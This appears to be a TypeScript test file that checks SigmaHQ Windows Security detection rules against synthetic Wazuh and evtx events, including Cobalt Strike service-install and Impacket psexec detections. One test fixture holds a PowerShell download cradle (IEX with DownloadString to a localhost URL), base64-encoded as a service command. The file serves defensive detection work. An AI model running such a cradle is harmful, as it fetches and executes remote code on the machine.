// Real SigmaHQ rules (shared reference data, DRL 1.1) on SYNTHETIC Wazuh alerts and evtx_dump events built from
// the field layouts in shared/reference/sigma.md §5: the cases where Wazuh's shape changes a rule's meaning.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { loadRules, type DetectionRule } from '../../src/detect/rules.js';
import { SHARED } from '../helpers/fixtures.js';
import { evtx, wazuh } from './sigma-helpers.js';

const DIR = join(SHARED, 'data/sigma/rules/windows/builtin/security');
const skip = !existsSync(DIR) && `no shared data at ${DIR}`;

function sigmahq(rel: string): DetectionRule {
  const set = loadRules([join(DIR, rel)]);
  assert.deepEqual(set.problems, []);
  return set.rules[0] as DetectionRule;
}

const b64 = (s: string) => Buffer.from(s).toString('base64');

describe('SigmaHQ Windows Security rules', { skip }, () => {
  it('susp_failed_logon_source: Wazuh drops IpAddress "-", and the filter still excludes local logons', () => {
    const r = sigmahq('account_management/win_security_susp_failed_logon_source.yml');
    assert.equal(r.match.wazuh(wazuh({ targetUserName: 'jane' })), false, 'no IpAddress: Windows wrote "-"');
    assert.equal(r.match.wazuh(wazuh({ ipAddress: '10.1.2.3' })), false, 'private range (cidr)');
    assert.equal(r.match.wazuh(wazuh({ ipAddress: 'fe80::1' })), false, 'IPv6 link-local (cidr)');
    assert.equal(r.match.wazuh(wazuh({ ipAddress: '203.0.113.7' })), true);
    assert.equal(r.match['evtx-json'](evtx({ IpAddress: '-' })), false);
    assert.equal(r.match['evtx-json'](evtx({ IpAddress: '198.51.100.4' })), true);
    assert.equal(r.match.wazuh(wazuh({ ipAddress: '203.0.113.7' }, { channel: 'System' })), false, 'logsource: Security only');
  });

  it('explicit_credential_local_logon: fieldref excludes a user acting as themselves', () => {
    const r = sigmahq('win_security_explicit_credential_local_logon.yml');
    const base = { targetServerName: 'localhost', processName: 'C:\\Users\\jane\\tool.exe' };
    assert.equal(r.match.wazuh(wazuh({ ...base, subjectUserName: 'jane', targetUserName: 'admin' }, { eventID: '4648' })), true);
    assert.equal(r.match.wazuh(wazuh({ ...base, subjectUserName: 'jane', targetUserName: 'JANE' }, { eventID: '4648' })), false);
    assert.equal(r.match.wazuh(wazuh({ ...base, processName: 'C:\\Windows\\System32\\svchost.exe', subjectUserName: 'jane', targetUserName: 'x' }, { eventID: '4648' })), false);
  });

  it('cobaltstrike_service_installs: base64offset finds the encoded download cradle at any offset', () => {
    const r = sigmahq('win_security_cobaltstrike_service_installs.yml');
    const cradle = "IEX (New-Object Net.Webclient).DownloadString('http://127.0.0.1:41337/')";
    for (const pad of ['', '$', '$x']) {
      const e = wazuh({ serviceFileName: `powershell -enc ${b64(pad + cradle)}` }, { eventID: '4697' });
      assert.equal(r.match.wazuh(e), true, `offset ${pad.length}`);
    }
    assert.equal(r.match.wazuh(wazuh({ serviceFileName: `powershell -enc ${b64('Get-Date')}` }, { eventID: '4697' })), false);
  });

  it("impacket_psexec: '\\\\\\\\\\*\\\\IPC$' is the literal share name \\\\*\\IPC$", () => {
    const r = sigmahq('win_security_impacket_psexec.yml');
    const e = (share: string) => evtx({ ShareName: share, RelativeTargetName: 'RemCom_stdin_abc' }, { EventID: 5145 });
    assert.equal(r.match['evtx-json'](e('\\\\*\\IPC$')), true);
    assert.equal(r.match['evtx-json'](e('\\\\FS01\\IPC$')), false);
  });
});
